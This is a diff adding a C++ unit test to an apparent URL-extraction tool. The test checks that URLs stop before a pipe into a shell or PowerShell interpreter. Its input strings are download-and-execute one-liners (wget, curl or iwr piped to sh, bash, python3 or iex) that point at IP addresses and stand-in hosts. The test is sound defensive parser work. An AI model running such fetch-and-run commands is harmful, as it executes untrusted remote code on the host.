@@ -230,6 +230,21 @@ TEST(UrlPrecision, ListsWithoutSpacesAfterAPathGiveEveryUrl) {
     }
 }
 
+TEST(UrlPrecision, PipeToAnInterpreterIsNoPartOfTheUrl) {
+    // Shell and PowerShell one-liners pipe the download into an interpreter.
+    EXPECT_EQ(urls("wget -q -O- http://91.215.85.17/m.sh|sh; iwr -useb http://45.77.12.9/s.ps1|iex "
+                   "(curl -s http://x.example/i.sh|BASH) \"http://x.example/p|python3\" http://x.example/q|sh&"),
+              (V{"http://91.215.85.17/m.sh", "http://45.77.12.9/s.ps1", "http://x.example/i.sh", "http://x.example/p",
+                 "http://x.example/q"}));
+    // Any other "|" stays.
+    EXPECT_EQ(urls("http://x.example/a|b http://x.example/?q=sh|shell http://x.example/a|sh.txt http://x.example/b|sh/c"),
+              (V{"http://x.example/a|b", "http://x.example/?q=sh|shell", "http://x.example/a|sh.txt", "http://x.example/b|sh/c"}));
+    // --open keeps the text as written.
+    Options open = options_for({Type::url});
+    open.open_punctuation = true;
+    EXPECT_EQ(values_of(scan_pieces("curl http://x.example/i.sh|sh", open), Type::url), V{"http://x.example/i.sh|sh"});
+}
+
 TEST(UrlPrecision, Base64LastGroupAndStubs) {
     // "...Y29tba": the last group's unused bits are not zero, so it is no
     // encoder's output: "http://example.com", not "http://example.comm".
